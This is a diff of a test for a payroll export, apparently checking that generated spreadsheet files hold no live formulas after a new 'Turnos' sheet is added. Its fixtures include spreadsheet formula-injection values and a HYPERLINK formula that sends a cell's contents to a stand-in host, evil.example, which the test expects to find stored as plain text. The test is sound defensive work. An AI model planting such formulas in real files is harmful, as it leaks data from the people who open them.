@@ -163,14 +163,14 @@ describe('payroll files never carry a live formula (issue 26 item 7)', () => {
     const server = await hostileWeek();
     const response = await server.request('GET', `/api/prenomina?${RANGE}&formato=xlsx`);
     expect(response.status, response.text).toBe(200);
-    const [prenomina, asistencia, incidencias] = (await readXlsxFile(response.bytes)).map((s) => s.data);
+    const [prenomina, asistencia, , incidencias] = (await readXlsxFile(response.bytes)).map((s) => s.data); // 'Turnos' is the third
     expect(prenomina!.find((r) => r[0] === '-A1')!.slice(0, 4)).toEqual(['-A1', HYPERLINK, '@NORTE', '+CAJERO']);
     expect(asistencia!.find((r) => r[0] === '-5')!.slice(0, 2)).toEqual(['-5', '+52 JUAN']);
     expect(incidencias!.find((r) => r[6] === 'bono:=PUNTUALIDAD')).toEqual(expect.arrayContaining(['-A1', HYPERLINK, '@NORTE', 'Bono =PUNTUALIDAD', 200]));
 
     const parts = zipEntries(response.bytes);
     const sheets = [...parts].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
-    expect(sheets).toHaveLength(4); // with 'Registro', the record chain's head
+    expect(sheets).toHaveLength(5); // with 'Turnos' (issue 41) and 'Registro', the record chain's head
     for (const [name, xml] of sheets) expect({ name, formula: /<f[\s>/]/.test(xml.toString('utf8')) }).toEqual({ name, formula: false });
     expect(parts.get('xl/sharedStrings.xml')!.toString('utf8')).toContain('<t>=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&amp;A1;"VER")</t>');
   });
